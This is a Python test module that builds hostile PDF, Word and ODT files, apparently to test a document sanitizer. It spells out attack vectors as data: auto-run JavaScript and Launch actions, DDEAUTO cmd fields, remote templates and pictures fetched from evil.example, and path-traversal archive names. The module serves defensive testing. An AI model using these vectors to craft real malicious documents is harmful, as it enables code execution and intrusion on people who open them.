"""Hostile documents: what acts when it is opened."""

from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.attachments.hostility import EVIL, PAGE, Made
from tests.attachments.sharing import XMP, odt, pdf, photo, word


def pdfs_that_act() -> Made:
    script = Dictionary(S=Name.JavaScript, JS=String(EVIL.decode()))
    launch = Dictionary(S=Name.Launch, F=String(EVIL.decode()))
    acts = (
        script, launch,
        Dictionary(S=Name.URI, URI=String(f"javascript:{EVIL.decode()}")),
        Dictionary(S=Name.URI, URI=String(f"file:///{EVIL.decode()}")),
        Dictionary(S=Name.GoToR, F=String(EVIL.decode()), D=Array([0, Name.Fit])),
        Dictionary(S=Name.SubmitForm, F=String(EVIL.decode())),
        Dictionary(S=Name.ImportData, F=String(EVIL.decode())),
        Dictionary(S=Name.URI, URI=String("https://dr.dk"), Next=script),
        Dictionary(S=Name.Named, N=Name.Print, Next=Array([launch, script])),
        Dictionary(S=Name.Rendition, JS=String(EVIL.decode())),
    )  # fmt: skip
    for act in acts:
        yield changed(lambda it, act=act: it.Root.__setattr__("OpenAction", act)), ""  # type: ignore[misc]
        yield changed(lambda it, act=act: note(it, Subtype=Name.Link, A=act)), ""  # type: ignore[misc]
    yield changed(lambda it: it.Root.__setattr__("AA", Dictionary(WC=script))), ""
    yield changed(lambda it: it.pages[0].obj.__setattr__("AA", Dictionary(O=script))), ""
    yield (
        changed(
            lambda it: it.Root.__setattr__(
                "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
            )
        ),
        "",
    )
    yield changed(lambda it: it.attachments.__setitem__("x.exe", EVIL)), ""
    form = Dictionary(Fields=Array(), XFA=String(EVIL.decode()))
    yield changed(lambda it: it.Root.__setattr__("AcroForm", form)), ""
    for kind in ("FileAttachment", "RichMedia", "Screen", "Movie", "Sound", "3D"):
        active = {"Subtype": Name(f"/{kind}"), "Contents": String(EVIL.decode())}
        yield changed(lambda it, active=active: note(it, **active)), ""  # type: ignore[misc]
    yield changed(lambda it: it.docinfo.__setitem__("/Author", EVIL.decode())), ""
    yield changed(lambda it: it.Root.__setattr__("Metadata", it.make_stream(XMP + EVIL))), ""
    yield changed(lambda it: it.pages[0].obj.__setattr__("PieceInfo", Dictionary(X=String(EVIL.decode())))), ""
    yield changed(with_photo), ""
    for password, code in (("hemmelig", "file_locked"), ("", "")):
        out = BytesIO()
        with pikepdf.open(BytesIO(pdf())) as opened:
            opened.save(out, encryption=pikepdf.Encryption(owner="o", user=password))
        yield out.getvalue(), code


def changed(how: Callable[[pikepdf.Pdf], object]) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as opened:
        how(opened)
        opened.save(out)
    return out.getvalue()


def note(it: pikepdf.Pdf, **more: object) -> None:
    one = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 90, 90]), **more)
    it.pages[0].obj.Annots = Array([it.make_indirect(one)])


def with_photo(it: pikepdf.Pdf) -> None:
    image = it.make_stream(photo(), Type=Name.XObject, Subtype=Name.Image, Width=320, Height=200, BitsPerComponent=8)
    image.ColorSpace, image.Filter = Name.DeviceRGB, Name.DCTDecode
    it.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=image))


def office_that_acts() -> Made:
    """Macros, embedded programs, remote parts, fields, entities, paths; and what only tells too much."""
    evil = EVIL.decode()
    for kind, target in (
        ("vbaProject", "vbaProject.bin"), ("oleObject", "embeddings/o.bin"), ("control", "activeX/a.xml"),
        ("aFChunk", "chunk.html"), ("subDocument", "sub.docx"), ("frame", "frame.xml"), ("video", "media/v.mp4"),
        ("image", "media/x.svg"), ("image", "media/x.html"), ("image", "media/x.exe"), ("image", "media/x.ocx"),
    ):  # fmt: skip
        yield word({f"word/{target}": EVIL}, ("rId7", kind, target, "")), "file_active"
    for kind in ("image", "oleObject", "frame", "subDocument", "externalLinkPath"):
        yield word(None, ("rId7", kind, f"http://evil.example/{evil}", "External")), "file_active"
    for target in (
        f"javascript:{evil}",
        f"file:///{evil}",
        f"\\\\evil\\{evil}",
        f"ms-word:{evil}",
        f"data:text/html,{evil}",
    ):
        yield word(None, ("rId7", "hyperlink", target, "External")), "file_active"
    yield word(None, ("rId7", "attachedTemplate", f"http://evil.example/{evil}.dotm", "External")), ""
    for words in (f"DDEAUTO cmd {evil}", f"INCLUDEPICTURE http://evil.example/{evil}", f"LINK Excel {evil}", "DDE x"):
        half = len(words) // 2
        parts = "".join(f"<w:r><w:instrText>{it}</w:instrText></w:r>" for it in (words[:half], words[half:]))
        yield word(body=f"<w:p>{parts}</w:p>"), "file_active"
        yield word(body=f'<w:p><w:fldSimple w:instr="{words}"/></w:p>'), "file_active"
    yield word({"word/document.xml": f"<!DOCTYPE x SYSTEM 'http://evil.example/{evil}'><x/>"}), "file_active"
    macros = "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
    yield word({"[Content_Types].xml": macros}), "file_active"
    for name in (
        "../../evil.xml",
        "/etc/evil.xml",
        "word/../../evil.xml",
        "word\\..\\evil.xml",
        "C:/evil.xml",
        "word//evil.xml",
    ):
        yield word({name: EVIL}), "file_broken"
    yield word({"word/hidden.exe": EVIL, "customXml/item1.xml": EVIL, "evil/x.html": PAGE}), ""
    yield word({"docProps/core.xml": b"<a>" + EVIL + b"</a>"}), ""
    yield word(None, ("rId7", "customXml", "../customXml/item1.xml", "")), ""
    yield odt({"Basic/Standard/Module1.xml": EVIL}), "file_active"
    yield odt({"Scripts/python/x.py": EVIL}), "file_active"
    yield odt({"Object 1": EVIL}), "file_active"
    yield odt({"Pictures/x.svg": EVIL}), "file_active"
    yield odt({"meta.xml": EVIL, "Thumbnails/thumbnail.png": EVIL, "settings.xml": EVIL, "evil.html": PAGE}), ""
    for target in (f"http://evil.example/{evil}", f"file:///{evil}", f"../{evil}"):
        yield odt(body=f'<draw:image xlink:href="{target}"/>'), "file_active"
    yield odt(body=f'<text:a xlink:href="javascript:{evil}">x</text:a>'), "file_active"
    yield (
        odt(body=f"<office:scripts><script:event-listener>{evil}</script:event-listener></office:scripts>"),
        "",
    )
    manifest = (
        '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:manifest>'
    )
    yield odt({"META-INF/manifest.xml": manifest}), "file_locked"
    yield odt({"mimetype": "application/vnd.oasis.opendocument.text-template"}), "file_type"
